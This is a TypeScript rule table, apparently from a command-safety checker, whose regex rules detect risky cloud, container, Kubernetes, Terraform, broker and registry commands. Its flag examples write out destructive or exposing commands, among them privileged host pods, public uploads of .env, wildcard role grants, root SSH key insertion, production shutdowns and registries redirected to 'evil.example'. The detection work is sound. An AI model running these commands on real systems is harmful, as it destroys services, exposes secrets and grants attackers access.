/**
 * Remote state opened to others: cluster powers, containers, public stores and functions, infrastructure state,
 * brokers and secret stores, repositories made public, registries redirected (rows in the format of
 * ../rules.ts, each with its own must-flag and must-pass examples). Data, not code.
 */
import type { Rule } from "./types.js";

export const EXPOSURE_RULES: Rule[] = [
  // clusters: system namespaces, cluster-wide roles, pods with the host's powers, manifests and charts from strangers
  {
    program: ["kubectl", "oc"],
    args: /(^|\s)delete(\s|$)/,
    // anything deleted in the cluster's own namespace takes down DNS, networking or access for everyone
    word: { test: /^(--namespace=)?kube-system$/, options: true },
    effect: "remote",
    key: "kubectl_mass_delete",
    flag: ["kubectl delete serviceaccount ci-deployer -n kube-system", "kubectl -n kube-system delete ds kube-proxy"],
    pass: ["kubectl delete pod api-7d9f -n dev", "kubectl get pods -n kube-system"],
  },
  {
    program: ["kubectl", "oc"],
    // a role or binding edited to grant every verb on every resource
    args: /(^|\s)(patch|edit|replace|apply)\s.*(clusterrole|role)(binding)?\b.*("(verbs|resources|apiGroups)"\s*:\s*\[\s*"\*"|"\*")/,
    effect: "remote",
    key: "privilege_grant",
    flag: [
      'kubectl patch clusterrole view --type=json -p \'[{"op":"add","path":"/rules/-","value":{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}}]\'',
    ],
    pass: ['kubectl patch clusterrole view -p \'{"metadata":{"labels":{"team":"a"}}}\''],
  },
  {
    program: ["kubectl", "oc"],
    verbs: [["run", "debug", "create", "apply"]],
    // a pod in the host's pid/network namespace, privileged, or with the host's file system
    args: /"(privileged|hostPID|hostNetwork|hostIPC|allowPrivilegeEscalation)"\s*:\s*true|"hostPath"\s*:|(^|\s)--privileged(=true)?(\s|$)|(^|\s)--profile[= ]sysadmin(\s|$)/,
    effect: "remote",
    key: "privilege_grant",
    flag: [
      'kubectl run shell --image=alpine --overrides=\'{"spec":{"hostPID":true,"containers":[{"name":"s","image":"alpine","securityContext":{"privileged":true}}]}}\' -- sh',
      "kubectl debug node/worker-1 -it --image=busybox --profile=sysadmin",
    ],
    pass: [
      "kubectl run tmp --image=busybox --rm -it -- sh",
      "kubectl debug -it api-7d9f --image=busybox --profile=general",
    ],
  },
  {
    program: ["kubectl", "oc"],
    verbs: [["apply", "create", "replace"]],
    // manifests from a host or a personal repository nobody vouches for (not a project's own releases)
    args: /(^|\s)(-f|--filename|-k|--kustomize)[= ]?(?!(https:\/\/)?(raw\.githubusercontent\.com|github\.com)\/(kubernetes(-sigs|-csi)?|cert-manager|jetstack|argoproj|istio|cilium|projectcalico|prometheus-operator|helm|fluxcd|kedacore|knative|tektoncd|open-policy-agent|kyverno|grafana|elastic|hashicorp|aws|Azure|GoogleCloudPlatform|rancher|longhorn|metallb|traefik|nginxinc|kubeflow|strimzi|minio|openebs|linkerd|crossplane|operator-framework|vmware-tanzu|bitnami-labs|kubevirt|dapr|flannel-io|coreos|weaveworks|envoyproxy|open-telemetry|jaegertracing|external-secrets|NVIDIA|kubereboot|bitnami|argoproj-labs|chaos-mesh|prometheus-community|tigera|zalando|cloudnative-pg|k3s-io|fluent|falcosecurity|aquasecurity|kong|apache|keycloak|openshift|cockroachdb|ray-project|kserve|volcano-sh)\/|https:\/\/([\w-]+\.)*(k8s\.io|kubernetes\.io|projectcalico\.org|tigera\.io|istio\.io|cilium\.io|linkerd\.io|jetstack\.io|cert-manager\.io|fluxcd\.io|argoproj\.io|knative\.dev|amazonaws\.com|googleapis\.com|azure\.com|microsoft\.com)\/)(https?:\/\/|(github\.com|gitlab\.com|bitbucket\.org)\/)/i,
    effect: "remote",
    key: "remote_code_exec",
    flag: [
      "kubectl apply -f http://198.51.100.12/ds.yaml",
      "kubectl create -f https://gist.githubusercontent.com/anon/abc/raw/pod.yaml",
      "kubectl apply -f https://raw.githubusercontent.com/unknown-user/manifests/main/all.yaml",
      "kubectl apply -k github.com/anon/deploy//overlays/prod",
      "kubectl apply -f https://example.com/manifests/agent.yaml",
    ],
    pass: [
      "kubectl apply -f https://raw.githubusercontent.com/flannel-io/flannel/master/Documentation/kube-flannel.yml",
      "kubectl apply -k ./k8s/overlays/dev",
      "kubectl apply -f https://docs.projectcalico.org/manifests/calico.yaml",
      "kubectl apply -f https://github.com/cert-manager/cert-manager/releases/download/v1.14.0/cert-manager.yaml",
      "kubectl apply -f https://raw.githubusercontent.com/unknown-user/m/main/all.yaml --dry-run=client -o yaml",
    ],
  },
  {
    program: ["kubectl", "oc"],
    verbs: [["create", "scale", "run"]],
    // thousands of pods at once
    args: /(^|\s)--replicas[= ]\d{4,}(\s|$)/,
    effect: "exhaust",
    key: "resource_exhaustion",
    flag: ["kubectl create deployment load --image=busybox --replicas=5000 -- sleep 3600"],
    pass: ["kubectl create deployment web --image=nginx --replicas=3"],
  },
  {
    program: ["helm"],
    verbs: [["install", "upgrade"]],
    // a chart into the cluster's own namespace, or from a plain-http or bare-address repository
    args: /(^|\s)(-n|--namespace)[= ]kube-system(\s|$)|(^|\s)((oci|https?):\/\/\d|http:\/\/)/,
    effect: "remote",
    key: "privilege_grant",
    flag: [
      "helm upgrade --install agent ./chart --namespace kube-system",
      "helm upgrade --install agent oci://198.51.100.12/charts/agent",
    ],
    pass: [
      "helm upgrade --install app ./chart",
      "helm upgrade --install api ./charts/api -n prod",
      "helm install cache oci://registry-1.docker.io/bitnamicharts/redis",
    ],
  },
  // containers: networks and production services taken away, the daemon's socket handed to a stranger
  {
    program: ["docker", "podman", "nerdctl"],
    verbs: [["network"], ["rm", "remove", "prune", "disconnect"]],
    // a network this line made (`network create x && network rm x`) is judged by the line's own record
    when: (ops) => ops[1] !== "rm" || !ops.slice(2).every((n) => /^(test|e2e|tmp|ci)[-_\w]*$/.test(n)),
    effect: "remote",
    key: "cluster_teardown",
    flag: ["docker network prune -f", "podman network rm backend", "docker network disconnect -f prod_net web"],
    pass: ["docker network ls", "docker network rm testnet"],
  },
  {
    program: ["docker", "podman", "nerdctl", "docker-compose"],
    // a production service stopped, killed or restarted, by container name or compose project/file
    args: /(^|\s)(container\s+)?(stop|kill|restart|down|pause)(\s|$)/,
    word: { test: /(^|[-_./=])(prod|production|live)([-_.\d]|$)/, except: /^-|(^|[-_.])(test|tmp|ci)([-_.]|$)/ },
    effect: "remote",
    key: "stop_service",
    flag: [
      "podman stop api-production",
      "docker container restart billing_prod_1",
      "docker kill postgres-prod",
      "docker compose -p prod down",
      "docker-compose -f docker-compose.production.yml stop",
    ],
    pass: ["docker stop myapp-dev", "docker compose down", "docker kill test-runner-1", "docker stop prod-test-tmp"],
  },
  {
    program: ["docker", "podman"],
    args: /(^|\s)restart\s.*\$\(/,
    effect: "remote",
    key: "stop_service",
    flag: ["docker restart $(docker ps -q)"],
    pass: ["docker restart web-dev"],
  },
  {
    program: ["docker", "podman", "nerdctl"],
    verbs: [["run", "create"]],
    // the daemon's socket (root on the host) handed to an image of an unknown publisher
    args: /docker\.sock:/,
    word: {
      from: 1,
      test: /^[\w.-]+\/[\w.-]+(:[\w.-]+)?$/,
      except:
        /^(docker|library|portainer|traefik|containrrr|amazon|google|gcr\.io|mcr\.microsoft\.com|bitnami|hashicorp|grafana|prom|gitlab|jenkins|moby|testcontainers|alpine|curlimages)\//,
    },
    effect: "execute",
    key: "remote_access",
    flag: ["docker run --rm -v /var/run/docker.sock:/var/run/docker.sock randomuser/helper:latest"],
    pass: [
      "docker run --rm -v /var/run/docker.sock:/var/run/docker.sock docker:cli docker ps",
      "docker run -d -v /var/run/docker.sock:/var/run/docker.sock:ro traefik/whoami",
    ],
  },
  {
    program: ["docker", "podman", "nerdctl"],
    verbs: [["run", "create"]],
    // a data store published on every interface by choice, authentication off, or anonymous admins
    args: /(^|\s)(-p|--publish)[= ](0\.0\.0\.0|\[::\]|\*):\d+:(6379|27017|9200|9300|11211|5984|2379|8086|5432|3306|9042|8529|7474)(\s|$)|(^|\s)--noauth(\s|$)|ANONYMOUS_ORG_ROLE=Admin|(^|\s)(-e|--env)[= ]\S*(AUTH_DISABLED|DISABLE_AUTH|SECURITY_ENABLED)=(true|false)/i,
    effect: "execute",
    key: "remote_access",
    flag: [
      "docker run -d -p 0.0.0.0:6379:6379 redis:7",
      "podman run -d --publish=0.0.0.0:9200:9200 elasticsearch:8.11.0",
      "docker run -d -p 27017:27017 mongo --bind_ip_all --noauth",
      "docker run -d -p 8080:3000 -e GF_AUTH_ANONYMOUS_ENABLED=true -e GF_AUTH_ANONYMOUS_ORG_ROLE=Admin grafana/grafana",
    ],
    pass: ["docker run -d --name test-redis -p 6379:6379 redis:7", "docker run -d -p 127.0.0.1:27017:27017 mongo:7"],
  },
  // object stores and functions opened to everyone, objects set to expire
  {
    program: ["mc"],
    verbs: [["anonymous", "policy"], ["set"]],
    args: /(^|\s)(public|download|upload)(\s|$)/,
    effect: "remote",
    key: "privilege_grant",
    flag: ["mc anonymous set public local/backups", "mc anonymous set download minio/private-docs"],
    pass: ["mc anonymous get minio/private-docs", "mc anonymous set none minio/private-docs"],
  },
  {
    program: ["oci"],
    args: /--public-access-type[= ]Object(Read|ReadWithoutList)\b/,
    effect: "remote",
    key: "privilege_grant",
    flag: ["oci os bucket update --name backups --public-access-type ObjectRead"],
    pass: ["oci os bucket update --name backups --public-access-type NoPublicAccess"],
  },
  {
    program: ["aws"],
    // the account's block on public buckets lifted, an object uploaded public, an inline policy from a file
    args: /put-public-access-block\s.*Block\w*=false|(^|\s)s3\s+(cp|sync|mv)\s.*--acl[= ]public-read|(^|\s)iam\s+put-(user|role|group)-policy\s.*--policy-document[= ](file:\/\/|\$)/i,
    effect: "remote",
    key: "privilege_grant",
    flag: [
      "aws s3api put-public-access-block --bucket reports --public-access-block-configuration BlockPublicAcls=false,IgnorePublicAcls=false",
      "aws s3 cp .env s3://share/ --acl public-read",
      "aws iam put-role-policy --role-name ci --policy-name all --policy-document file://admin.json",
    ],
    pass: ["aws s3 cp site/ s3://www/ --recursive", "aws s3api get-public-access-block --bucket reports"],
  },
  {
    program: ["aws"],
    // a function callable by anyone
    args: /(^|\s)lambda\s+(add-permission|add-layer-version-permission|create-function-url-config|update-function-url-config)\s.*(--principal[= ]\*(\s|$)|--(function-url-)?auth-type[= ]NONE\b)/,
    effect: "remote",
    key: "privilege_grant",
    flag: [
      "aws lambda create-function-url-config --function-name api --auth-type NONE",
      "aws lambda add-permission --function-name admin-api --statement-id p --action lambda:InvokeFunctionUrl --principal '*' --function-url-auth-type NONE",
    ],
    pass: ["aws lambda create-function-url-config --function-name api --auth-type AWS_IAM"],
  },
  {
    program: ["aws", "gsutil", "gcloud"],
    // a lifecycle rule that expires (deletes) the bucket's objects
    args: /put-bucket-lifecycle-configuration\s.*Expiration|(^|\s)lifecycle\s+set(\s|$)|(^|\s)buckets\s+update\s.*--lifecycle-file/,
    effect: "remote",
    key: "cloud_storage_delete",
    flag: [
      'aws s3api put-bucket-lifecycle-configuration --bucket prod-logs --lifecycle-configuration \'{"Rules":[{"Status":"Enabled","Expiration":{"Days":1}}]}\'',
      "gsutil lifecycle set expire.json gs://prod-backups",
    ],
    pass: ["aws s3api get-bucket-lifecycle-configuration --bucket prod-logs", "gsutil lifecycle get gs://b"],
  },
  {
    program: ["s5cmd"],
    args: /(^|\s)(rm|delete)\s.*(\*|\s\S+:\/\/[^/\s]+\/?(\s|$))|(^|\s)rb(\s|$)/,
    effect: "remote",
    key: "cloud_storage_delete",
    flag: ["s5cmd rm 's3://datalake/raw/*'"],
    pass: ["s5cmd ls 's3://datalake/raw/*'", "s5cmd rm s3://datalake/raw/one.csv"],
  },
  {
    program: ["gcloud"],
    args: /invalidate-cdn-cache\s.*--path[= ]\/\*/,
    effect: "remote",
    key: "cache_flush",
    flag: ["gcloud compute url-maps invalidate-cdn-cache web-map --path '/*' --async"],
    pass: ["gcloud compute url-maps invalidate-cdn-cache web-map --path /index.html"],
  },
  {
    program: ["aws", "gcloud", "az"],
    // hundreds of machines at once
    args: /(^|\s)run-instances\s.*--count[= ]\d{3,}|(^|\s)instances\s+(create|bulk\s+create)\s.*--count[= ]\d{3,}|(^|\s)vmss\s+(create|scale)\s.*--(instance-count|new-capacity)[= ]\d{3,}/,
    effect: "exhaust",
    key: "resource_exhaustion",
    flag: ["aws ec2 run-instances --image-id ami-1 --count 500 --instance-type p4d.24xlarge"],
    pass: ["aws ec2 run-instances --image-id ami-1 --count 2 --instance-type t3.micro"],
  },
  {
    program: ["aws", "az", "gcloud", "doctl", "hcloud", "oci", "linode-cli", "scw", "eksctl", "ibmcloud"],
    // an auto-scaling group, node pool or service set to run nothing, whatever the verb
    args: /(^|\s)--(desired-capacity|max-size|desired-count|new-capacity|node-count|num-nodes|count|size|target-size|max-nodes|instance-count|max-replicas)[= ]0(\s|$)/,
    effect: "remote",
    key: "cluster_teardown",
    flag: [
      "aws autoscaling set-desired-capacity --auto-scaling-group-name workers --desired-capacity 0",
      "az vmss scale -g rg -n web --new-capacity 0",
      "doctl kubernetes cluster node-pool update c p --count 0",
    ],
    pass: ["aws autoscaling set-desired-capacity --auto-scaling-group-name workers --desired-capacity 4"],
  },
  // infrastructure state, firewalls open to everyone
  {
    program: ["terraform", "tofu", "terragrunt"],
    // resources dropped from the state are no longer managed; a pushed state overwrites the shared one
    // a workspace deleted with -force drops its state even while it still manages resources
    args: /(^|\s)state\s+(rm|push|replace-provider)(\s|$)|(^|\s)workspace\s+delete\s(.*\s)?-force(=true)?(\s|$)/,
    effect: "remote",
    key: "infra_teardown",
    flag: [
      "terraform state rm module.database",
      "tofu state push -force old.tfstate",
      "terraform workspace delete -force prod",
    ],
    pass: ["terraform state list", "terraform state show aws_db_instance.main", "terraform workspace delete dev"],
  },
  {
    program: ["gcloud", "az"],
    args: /(firewall-rules\s+(create|update)\s.*--source-ranges[= ](\*|0\.0\.0\.0\/0)(\s|,|$))|nsg\s+rule\s+(create|update)\s.*--source-address-prefix(es)?[= ](\*|0\.0\.0\.0\/0|Internet|Any)(\s|$)/,
    effect: "remote",
    key: "firewall_change",
    flag: [
      "gcloud compute firewall-rules create allow-ssh --allow tcp:22 --source-ranges '*'",
      "az network nsg rule create -g rg --nsg-name n -n rdp --priority 100 --source-address-prefixes '*' --destination-port-ranges 3389",
    ],
    pass: ["gcloud compute firewall-rules create allow-int --allow tcp:22 --source-ranges 10.0.0.0/8"],
  },
  {
    program: ["socketfilterfw"],
    // macOS's application firewall turned off, or told to let a program through
    args: /--(setglobalstate|setblockall|setstealthmode)\s+off|--(add|unblockapp|remove)(\s|$)/,
    effect: "system",
    key: "firewall_change",
    flag: ["sudo /usr/libexec/ApplicationFirewall/socketfilterfw --setglobalstate off"],
    pass: ["/usr/libexec/ApplicationFirewall/socketfilterfw --getglobalstate"],
  },
  // brokers, secret stores, databases administered directly
  {
    program: ["rabbitmqctl"],
    args: /(^|\s)set_user_tags\s+\S+\s+.*\badministrator\b|(^|\s)set_permissions\s.*(\.\*.*){3}/,
    effect: "remote",
    key: "privilege_grant",
    flag: ["rabbitmqctl set_user_tags guest administrator", 'rabbitmqctl set_permissions -p / guest ".*" ".*" ".*"'],
    pass: ["rabbitmqctl list_queues name messages"],
  },
  {
    program: ["rabbitmqctl", "rabbitmqadmin"],
    // a broker's queues emptied or deleted, or the node wiped
    args: /(^|\s)(delete_vhost|reset|force_reset|delete_queue|purge_queue|purge\s+queue|delete\s+(queue|vhost|exchange))(\s|$)/,
    effect: "remote",
    key: "cache_flush",
    flag: ["rabbitmqctl purge_queue orders", "rabbitmqctl force_reset"],
    pass: ["rabbitmqctl list_queues", "rabbitmqctl status"],
  },
  {
    program: ["vault"],
    verbs: [["policy"], ["write"]],
    // a policy written from standard input or a file is not read here; one over every path grants everything
    args: /\s-(\s|$)|\s\S*\.hcl(\s|$)|"(\*|sys\/\*)"|"sudo"/,
    effect: "remote",
    key: "privilege_grant",
    flag: ['vault policy write admin - <<< \'path "sys/*" { capabilities = ["sudo"] }\''],
    pass: ["vault policy read default", "vault policy list"],
  },
  {
    program: ["mongorestore"],
    // a restore that drops each collection first, on another host
    args: /(^|\s)--drop(\s|$)/,
    unless: /(^|\s)(--(uri|host)=mongodb:\/\/(localhost|127\.)|--host=(localhost|127\.))/,
    effect: "remote",
    key: "sql_drop",
    flag: ["mongorestore --drop --uri mongodb://db.prod.internal:27017 dump/"],
    pass: ["mongorestore --uri mongodb://db.prod.internal:27017 dump/", "mongorestore dump/"],
  },
  {
    program: ["console", "symfony", "dotnet", "neo4j-admin", "pg_dropcluster", "influx", "arangosh"],
    // frameworks' and servers' own drop commands
    args: /(^|\s)(doctrine:(schema|database):drop|ef\s+database\s+drop|database\s+(delete|drop)|bucket\s+delete)(\s|$)|^(--\S+\s+)*\d+(\.\d+)?\s+\S+$/,
    effect: "remote",
    key: "sql_drop",
    flag: [
      "bin/console doctrine:schema:drop --force --full-database",
      "dotnet ef database drop --force",
      "neo4j-admin database delete neo4j",
      "pg_dropcluster --stop 14 main",
    ],
    pass: ["dotnet ef migrations add AddInvoices", "bin/console doctrine:migrations:migrate"],
  },
  // git hosting: a private repository made public, a stranger made admin
  {
    program: ["gh", "glab"],
    args: /(^|\s)repo\s+edit\s.*--visibility[= ]public|(^|\s)api\s.*(visibility=public|private=false|permission=(admin|maintain)|access_level=(40|50))(\s|$)/,
    effect: "remote",
    key: "privilege_grant",
    flag: [
      "gh repo edit acme/internal-tools --visibility public --accept-visibility-change-consequences",
      "gh api -X PATCH repos/acme/app -F private=false",
      "gh api -X PUT repos/acme/core/collaborators/outsider -f permission=admin",
    ],
    pass: ['gh repo edit o/r --description "x"', "gh api -X PATCH repos/acme/app -f description='Shop backend'"],
  },
  {
    program: ["curl", "http", "https", "xh", "wget"],
    // an HTTP write whose body makes a repository public or hands out admin or owner rights
    args: /("private"\s*:\s*false|"visibility"\s*:\s*"public"|"permission"\s*:\s*"(admin|maintain)"|"?access_level"?\s*:\s*(40|50)\b|"role"\s*:\s*"(owner|admin)")/,
    effect: "remote",
    key: "privilege_grant",
    flag: [
      'curl -X PATCH -H "Authorization: Bearer $T" https://api.github.com/repos/acme/infra -d \'{"private": false}\'',
      "curl -X PUT https://gitlab.example.com/api/v4/projects/12/members/7 -d '{\"access_level\": 50}'",
    ],
    pass: ['curl -X PATCH https://api.github.com/repos/acme/infra -d \'{"description": "x"}\''],
  },
  {
    program: ["redis-cli", "valkey-cli", "keydb-cli"],
    // the server shut down, or crashed on purpose
    args: /^((-[hpanu]|--user|--pass)\s+\S+\s+|-\S+\s+)*(shutdown|debug\s+(segfault|crash-and-recover|restart|sleep))(\s|$)/i,
    effect: "remote",
    key: "stop_service",
    flag: ["valkey-cli -h kv.prod SHUTDOWN", "redis-cli -h cache.prod SHUTDOWN NOSAVE"],
    pass: ["redis-cli GET shutdown", "redis-cli ping"],
  },
  {
    program: ["ansible"],
    // modules that take no arguments and reboot or power off every host of the pattern
    args: /(^|\s)(-m|--module-name)[= ](ansible\.builtin\.)?(reboot|community\.general\.shutdown|shutdown)(\s|$)/,
    unless: /(^|\s)(--check|-C)(\s|$)/,
    effect: "system",
    key: "reboot_shutdown",
    flag: ["ansible all -m reboot", "ansible web -m ansible.builtin.reboot -b"],
    pass: ["ansible all -m ping", "ansible all -m reboot --check"],
  },
  {
    program: [
      "aws",
      "az",
      "gcloud",
      "docker",
      "podman",
      "eksctl",
      "fly",
      "flyctl",
      "heroku",
      "doctl",
      "hcloud",
      "linode-cli",
      "scw",
      "oci",
      "ibmcloud",
      "civo",
      "koyeb",
      "railway",
      "render",
      "cf",
      "nomad",
      "rancher",
      "kubectl",
      "oc",
    ],
    // a service, node pool or group scaled (or resized) to run nothing: `api=0`, `--node-count 0`, `count 0`
    args: /((^|[\s:_-])(scale|resize)(?=[\s:_-]|$)|update-auto-scaling-group(?=\s)).*(\s[\w.-]+=0+|\s(count|--count|--nodes|--replicas|--size|--num-nodes|--node-count|--desired(-capacity)?|--max-size|--instances)[= ]0+)(\s|$)/,
    effect: "remote",
    key: "cluster_teardown",
    flag: [
      "docker service scale web=0 worker=0",
      "az aks nodepool scale -g rg --cluster-name prod -n np1 --node-count 0",
      "fly scale count 0 -a shop-api",
      "heroku ps:scale worker=0 --app shop-prod",
      "aws autoscaling update-auto-scaling-group --auto-scaling-group-name web --desired-capacity 0",
    ],
    pass: ["docker service scale web=3", "eksctl scale nodegroup --cluster prod --name ng-1 --nodes 10"],
  },
  {
    program: ["docker", "podman", "docker-compose", "nerdctl"],
    // containers removed or stopped on another machine's daemon, or in a production context
    args: /(^|\s)(-H|--host)[= ](tcp|ssh):\/\/.*(^|\s)(rm|rmi|stop|kill|down|prune|restart)(\s|$)|(^|\s)(-c|--context)[= ](prod|production|live)\S*\s.*(^|\s)(rm|rmi|stop|kill|down|prune|restart)(\s|$)/,
    effect: "remote",
    key: "cluster_teardown",
    flag: ["docker -H tcp://10.0.0.5:2375 rm -f web", "docker --context prod-eu stop api"],
    pass: ["docker -H tcp://10.0.0.5:2375 ps", "docker --context dev rm -f web"],
  },
  {
    program: ["redis-cli", "valkey-cli", "keydb-cli"],
    // keys deleted on another host, or keys named by a pattern or found at run time
    args: /^(?=.*(^|\s)(-h|--host)\s+(?!(localhost|127\.\d+\.\d+\.\d+|::1)(\s|$))\S)(.*\s)?(del|unlink)(\s|$)|(^|\s)(del|unlink)\s.*(\*|\$\()/i,
    effect: "remote",
    key: "cache_flush",
    flag: [
      "redis-cli -h redis.prod.internal DEL user:sessions orders:queue",
      "redis-cli DEL $(redis-cli KEYS 'tmp:*')",
    ],
    pass: ["redis-cli -h 127.0.0.1 DEL cache:build", "redis-cli -n 3 DEL rate:user:1234"],
  },
  {
    program: ["salt", "salt-ssh", "salt-call"],
    // state functions that schedule commands or let a key in on every targeted minion
    args: /(^|\s)(cron\.(present|set_job|set_special|file)|at\.at|schedule\.add)(\s|$)/,
    effect: "system",
    key: "schedule_job",
    flag: ["salt '*' cron.present '/usr/local/bin/collect.sh' user=root minute='*/2'"],
    pass: ["salt '*' cron.list_tab root"],
  },
  {
    program: ["salt", "salt-ssh", "salt-call"],
    args: /(^|\s)(ssh\.set_auth_key|ssh\.set_auth_key_from_file|user\.chgroups\s.*\b(sudo|wheel|root)\b|sudoers\.\S+)(\s|$)/,
    effect: "system",
    key: "privilege_grant",
    flag: ["salt 'web*' ssh.set_auth_key root 'AAAAB3Nza…' enc=ssh-ed25519"],
    pass: ["salt 'web*' ssh.auth_keys root"],
  },
  {
    program: ["git"],
    // stored credentials in clear text in a shared folder, or for every user of the machine
    args: /(^|\s)config\s(.*\s)?(--system\s(.*\s)?credential\.\S+|credential\.helper\s+['"]?store\s+--file[= ]?\/(tmp|var\/tmp|dev\/shm)\/)/,
    effect: "system",
    key: "credential_write",
    flag: ["git config --system credential.helper 'store --file /tmp/creds'"],
    pass: ["git config --global credential.helper 'cache --timeout=3600'", "git config credential.helper store"],
  },
  {
    program: ["docker", "podman", "nerdctl"],
    // every pod, container, image or volume of the engine removed at once
    args: /(^|\s)(pod|container|image|volume|network)\s+(rm|prune)\s(.*\s)?(-[a-z]*a[a-z]*|--all)(\s|$)|^(rm|rmi)\s(.*\s)?(-[a-z]*a[a-z]*|--all)(\s|$)/,
    effect: "remote",
    key: "container_mass_delete",
    flag: [
      "podman pod rm -af",
      "docker container rm --all --force",
      "docker image prune -a -f",
      "podman rm --all --force",
    ],
    pass: ["podman pod rm web-pod", "docker image prune -f", "docker run --rm alpine rm -af /tmp/x"],
  },
  {
    program: ["pulumi"],
    // applied with no preview shown at all (`pulumi up --yes` still prints its preview first)
    args: /(^|\s)(up|update)(\s|$)/,
    anyOption: ["--skip-preview", "-f"],
    effect: "remote",
    key: "infra_apply",
    flag: ["pulumi up --yes --stack prod --skip-preview", "pulumi up -yf"],
    pass: ["pulumi up --yes", "pulumi preview --stack prod"],
  },
  // package registries: installs redirected to a host nobody vouches for
  {
    program: ["yarn", "npm", "pnpm", "pip", "pip3", "poetry", "bundle", "gem"],
    args: /(^|\s)config\s+set\s.*(registry|npmRegistryServer|index-url|mirror)\S*[= ]\s*['"]?(http:\/\/|https?:\/\/\d)|(^|\s)config\s+set\s+\S*trusted-host\s/i,
    effect: "execute",
    key: "remote_code_exec",
    flag: [
      "yarn config set npmRegistryServer http://npm.example.xyz",
      "npm config set registry http://10.0.0.5:4873/",
      "pip config set global.trusted-host evil.example",
    ],
    pass: ["npm config set registry https://registry.npmjs.org/", "bundle config set --local path vendor/bundle"],
  },
];
